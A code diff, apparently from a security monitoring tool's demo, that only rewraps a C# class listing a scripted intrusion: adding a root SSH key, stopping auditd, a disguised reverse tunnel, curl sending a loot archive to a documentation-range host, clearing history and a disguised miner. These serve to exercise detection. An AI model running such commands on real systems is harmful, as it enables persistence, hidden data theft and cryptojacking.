@@ -1,6 +1,8 @@
 namespace Picket.Node.Demo;
 
-/// <summary>The attack story that the demo plays: an intrusion from the first shell to the miner. Addresses are those of RFC 5737.</summary>
+/// <summary>
+/// The attack story that the demo plays: an intrusion from the first shell to the miner. Addresses are those of RFC 5737.
+/// </summary>
 internal static class DemoStory
 {
     /// <summary>The steps, in order.</summary>
@@ -14,8 +16,10 @@ internal static class DemoStory
         new("and a key to log in with", "tee", ["-a", "/root/.ssh/authorized_keys"], "3c86f347-3521-454f-85a9-39df4adc344f"),
         new("stops the audit", "systemctl", ["stop", "auditd"], "c9152f19-8c83-41e2-8d4f-01587a0084f1"),
         new("digs a tunnel", "dbus-helper", ["client", "203.0.113.10:8080", "R:socks"], "5f080bb3-1986-4669-b542-e238351663f3"),
-        new("carries data out", "curl", ["-sk", "--data-binary", "@/dev/shm/.c/loot.tgz", "https://203.0.113.10/u"], "ffd5bc2c-cadf-4929-8c0f-c47dff483008"),
+        new("carries data out", "curl", ["-sk", "--data-binary", "@/dev/shm/.c/loot.tgz", "https://203.0.113.10/u"],
+            "ffd5bc2c-cadf-4929-8c0f-c47dff483008"),
         new("clears the history", "rm", ["-f", "/root/.bash_history"], "a8694b2e-67b1-482a-ba62-a21115f5f1cc"),
-        new("and leaves a miner", "dbus-helper", ["-o", "stratum+tcp://203.0.113.10:3333", "-u", "w", "-k"], "b49c61c8-3433-4093-9aac-40a23ed45c7b"),
+        new("and leaves a miner", "dbus-helper", ["-o", "stratum+tcp://203.0.113.10:3333", "-u", "w", "-k"],
+            "b49c61c8-3433-4093-9aac-40a23ed45c7b"),
     ];
 }
